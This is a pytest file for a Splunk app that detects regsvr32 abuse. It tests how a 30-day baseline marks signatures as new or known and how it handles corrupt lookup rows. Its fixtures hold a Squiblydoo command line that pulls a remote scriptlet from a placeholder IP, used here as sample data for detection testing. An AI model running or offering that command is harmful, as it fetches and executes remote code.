"""The 30-day baseline: the command computes regsvr32_signature (through the real protocol), the
SPL does the rest. spl_baseline models that SPL pipe by pipe; the first tests check the model is
the SPL the app ships. One signature goes new -> known -> new again after the retention period,
and bad lookup rows and odd time ranges cost only themselves.

The command never reads the baseline lookup (only the SPL after it does), so its rows for the same
events are the same in every app copy: each distinct set of events goes through the protocol once
per module (ANNOTATED), and the parametrized cases vary only the lookup the SPL model reads.
test_the_command_ignores_the_baseline_lookup checks that premise."""
import json
import re

import pytest

from support import chunked
from support import spl_baseline as spl
from support.events import sysmon1
from regsvr32_detector.signature import MAX_CHARS
from test_conf import conf

DAY = spl.DAY
T0 = 1700000000.0           # day 0 of the story, 2023-11-14
SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll")
OTHER_USER_SQUIBLY = sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll",
                             user="CORP\\bob", computer="WS02")
INSTALL = sysmon1("regsvr32 /s \"C:\\Program Files\\Vendor\\v2.1\\x.dll\"")
NOTEPAD = sysmon1("notepad.exe", image="C:\\Windows\\System32\\notepad.exe")
MACROS = conf("macros.conf")
SAVED = conf("savedsearches.conf")


def expand(spl_text):
    """Backticked macros replaced by their definitions (arguments substituted), recursively."""
    def one(match):
        name, _, rest = match.group(1).partition("(")
        args = [a.strip() for a in rest.rstrip(")").split(",")] if rest else []
        stanza = MACROS["%s(%d)" % (name, len(args))] if args else MACROS[name]
        text = stanza["definition"]
        for param, value in zip(stanza.get("args", "").split(","), args):
            text = text.replace("$%s$" % param.strip(), value)
        return expand(text)
    return re.sub(r"`([^`]+)`", one, spl_text)


def pipes(spl_text):
    return " ".join(expand(spl_text).split())


def test_the_model_is_the_update_search_the_app_ships():
    update = pipes(SAVED["regsvr32 - Baseline - Update"]["search"])
    head, tail = update.split(" | regsvr32detect | ", 1)
    assert head == pipes("`regsvr32_events`")
    assert tail == " | ".join(spl.UPDATE)


def test_the_model_is_the_macro_the_app_ships_and_the_searches_use_it():
    assert pipes("`regsvr32_new_vs_baseline`") == " | ".join(spl.NEW_VS_BASELINE)
    assert MACROS["regsvr32_baseline_days"]["definition"] == str(spl.DAYS)
    new_search = SAVED["regsvr32 - New Since Last Month - Rule"]["search"]
    assert re.search(r"\| regsvr32detect \\?\s*\| where regsvr32_signature!=\"\" \\?\s*"
                     r"\| `regsvr32_new_vs_baseline` \\?\s*\| search regsvr32_new=true", new_search)
    assert spl.MAX_SIGNATURE == MAX_CHARS          # no signature the detector writes is dropped


def test_the_lookup_is_one_row_per_signature_to_splunk_too():
    stanza = conf("transforms.conf")["regsvr32_baseline"]
    assert (stanza["filename"], stanza["max_matches"], stanza["case_sensitive_match"]) == \
        ("regsvr32_baseline.csv", "1", "true")


def at(record, day):
    return dict(record, _time="%.3f" % (T0 + day * DAY))


class Story(object):
    """An app copy whose baseline lookup the scheduled update keeps, day by day."""

    def __init__(self, app):
        self.app = app
        self.lookup = str(app / "lookups" / "regsvr32_baseline.csv")

    def annotate(self, *events, **fresh):
        key = json.dumps(events, sort_keys=True)
        if key not in ANNOTATED or fresh.get("fresh"):
            result = chunked.run([], [list(events)], script=str(self.app / "bin" / "regsvr32detect.py"))
            assert result.returncode == 0 and result.alerts == [], result.messages
            ANNOTATED[key] = result.rows
        return [dict(row) for row in ANNOTATED[key]]

    def mark(self, *events):
        """| regsvr32detect | `regsvr32_new_vs_baseline`"""
        return spl.new_vs_baseline(self.annotate(*events), self.lookup)

    def update(self, day, *events, **info):
        """The daily update at 01:17 after DAY, over that day's events."""
        info.setdefault("info_max_time", T0 + (day + 1) * DAY)
        info.setdefault("info_search_time", T0 + (day + 1) * DAY + 4620)
        rows = spl.update(self.annotate(*events), self.lookup, **info)
        return dict((r["regsvr32_signature"], r) for r in rows)


ANNOTATED = {}      # events as JSON -> the command's rows (the command does not read the baseline)


@pytest.fixture
def story(app_copy):
    return Story(app_copy)


def new(rows):
    return [r.get("regsvr32_new") for r in rows]


def test_new_then_known_then_new_again_after_the_retention_period(story):
    # Day 0: no baseline yet. Everything regsvr32 is new; other rows get neither field.
    rows = story.mark(at(SQUIBLY, 0), at(NOTEPAD, 0))
    assert new(rows) == ["true", None] and "regsvr32_first_seen" not in rows[0]
    entries = story.update(0, at(SQUIBLY, 0), at(NOTEPAD, 0))
    squibly = rows[0]["regsvr32_signature"]
    assert list(entries) == [squibly] and entries[squibly]["count"] == "1"

    # Day 5: the same thing on another host by another user is known; an installer is new.
    rows = story.mark(at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
    assert new(rows) == ["false", "true"]
    assert float(rows[0]["regsvr32_first_seen"]) == T0
    install = rows[1]["regsvr32_signature"]
    entries = story.update(5, at(OTHER_USER_SQUIBLY, 5), at(INSTALL, 5))
    assert [float(entries[squibly]["first_seen"]), float(entries[squibly]["last_seen"]),
            entries[squibly]["count"]] == [T0, T0 + 5 * DAY, "2"]

    # Day 20: not seen since day 5, still inside the window, and kept by an update without it.
    assert new(story.mark(at(SQUIBLY, 20))) == ["false"]
    assert squibly in story.update(20, at(INSTALL, 20))

    # Day 36: last seen 31 days ago, so new again (first_seen still says when it was first met),
    # and the next update drops it.
    (row,) = story.mark(at(SQUIBLY, 36))
    assert row["regsvr32_new"] == "true" and float(row["regsvr32_first_seen"]) == T0
    entries = story.update(36, at(INSTALL, 36))
    assert squibly not in entries and install in entries
    (row,) = story.mark(at(SQUIBLY, 37))
    assert row["regsvr32_new"] == "true" and "regsvr32_first_seen" not in row


def test_an_event_at_or_before_its_first_sighting_is_new(story):
    # Re-running a past window after the update has folded it in must still say "new".
    story.update(3, at(SQUIBLY, 3))
    assert new(story.mark(at(SQUIBLY, 3), at(SQUIBLY, 2), at(SQUIBLY, 4))) == ["true", "true", "false"]


def test_every_row_keeps_its_place_and_only_signature_rows_are_marked(story):
    story.update(0, at(SQUIBLY, 0))
    events = [at(NOTEPAD, 1), at(SQUIBLY, 1), {"sample": "no _time"}, at(INSTALL, 1)]
    rows = story.mark(*events)
    assert [r.get("_time", "") for r in rows] == [e.get("_time", "") for e in events]
    assert new(rows) == [None, "false", None, "true"]


# Lookup rows that a search would choke on: each must cost only itself.
GOOD_TIME = "%d" % (T0 + 2 * DAY)
BAD_ROWS = [
    ("nan first_seen", ["nan", GOOD_TIME, "1"]),
    ("inf first_seen", ["inf", GOOD_TIME, "1"]),
    ("inf last_seen", [GOOD_TIME, "inf", "1"]),
    ("count 1e400", [GOOD_TIME, GOOD_TIME, "1e400"]),
    ("count many", [GOOD_TIME, GOOD_TIME, "many"]),
    ("a date", ["2025-11-22", GOOD_TIME, "1"]),
    ("braces", [GOOD_TIME, GOOD_TIME, "{x}"]),
    ("negative", ["-5", GOOD_TIME, "1"]),
    ("empty", ["", "", ""]),
    ("10 MB of digits", ["1" * 10000000, GOOD_TIME, "1"]),
    ("multivalue time", [[GOOD_TIME, GOOD_TIME], GOOD_TIME, "1"]),
]


def write_baseline(story, rows):
    spl.write_lookup(story.lookup, [dict(zip(spl.COLUMNS, row)) for row in rows])


@pytest.mark.parametrize(("why", "cells"), BAD_ROWS, ids=[b[0] for b in BAD_ROWS])
def test_a_bad_lookup_row_costs_only_itself(story, why, cells):
    (squibly,) = [r["regsvr32_signature"] for r in story.annotate(SQUIBLY)]
    (install,) = [r["regsvr32_signature"] for r in story.annotate(INSTALL)]
    write_baseline(story, [[squibly] + cells, [install, "%d" % T0, GOOD_TIME, "4"]])
    # Marking reads the times only: a row with bad times is as if unknown (new); a bad count does
    # not matter there. The good row still applies.
    times_usable = why.startswith("count") or why == "braces"
    assert new(story.mark(at(SQUIBLY, 3), at(INSTALL, 3))) == ["false" if times_usable else "true", "false"]
    # The update drops the bad row, keeps and extends the good one.
    entries = story.update(3, at(INSTALL, 3))
    assert list(entries) == [install] and entries[install]["count"] == "5"


@pytest.mark.parametrize("signature", [["a", "b"], "x" * 10000000, ""], ids=["multivalue", "10 MB", "empty"])
def test_bad_signatures_in_the_lookup_are_dropped(story, signature):
    (install,) = [r["regsvr32_signature"] for r in story.annotate(INSTALL)]
    write_baseline(story, [[signature, "%d" % T0, GOOD_TIME, "1"], [install, "%d" % T0, GOOD_TIME, "1"]])
    assert list(story.update(3, at(INSTALL, 3))) == [install]


@pytest.mark.parametrize("latest", [T0 + 4000 * DAY, "+Infinity"])
def test_a_time_range_ending_in_the_future_prunes_nothing_early(story, latest):
    story.update(0, at(SQUIBLY, 0))
    # Run on day 20 over a range that ends far in the future (or all time): "now" is the run.
    entries = story.update(19, at(INSTALL, 19), info_max_time=latest, info_search_time=T0 + 20 * DAY)
    assert len(entries) == 2


def test_a_backfill_prunes_as_the_daily_update_would_have_then(story):
    story.update(0, at(SQUIBLY, 0))
    # A backfill of day 40 run on day 41 drops what was last seen on day 0 ...
    assert len(story.update(40, at(INSTALL, 40))) == 1
    story.update(0, at(SQUIBLY, 0))
    # ... and one of day 10, run much later, keeps it.
    assert len(story.update(10, at(INSTALL, 10), info_search_time=T0 + 400 * DAY)) == 2


def test_the_command_ignores_the_baseline_lookup(story):
    # The premise of ANNOTATED: with a broken, 10 MB baseline in lookups/ the command's rows are
    # those it gives without one.
    events = (at(SQUIBLY, 3), at(INSTALL, 3), at(NOTEPAD, 3))
    clean = story.annotate(*events, fresh=True)
    write_baseline(story, [[clean[0]["regsvr32_signature"], "1" * 10000000, "{x}", "nan"], ["x" * 10000000, "", "", ""]])
    assert story.annotate(*events, fresh=True) == clean
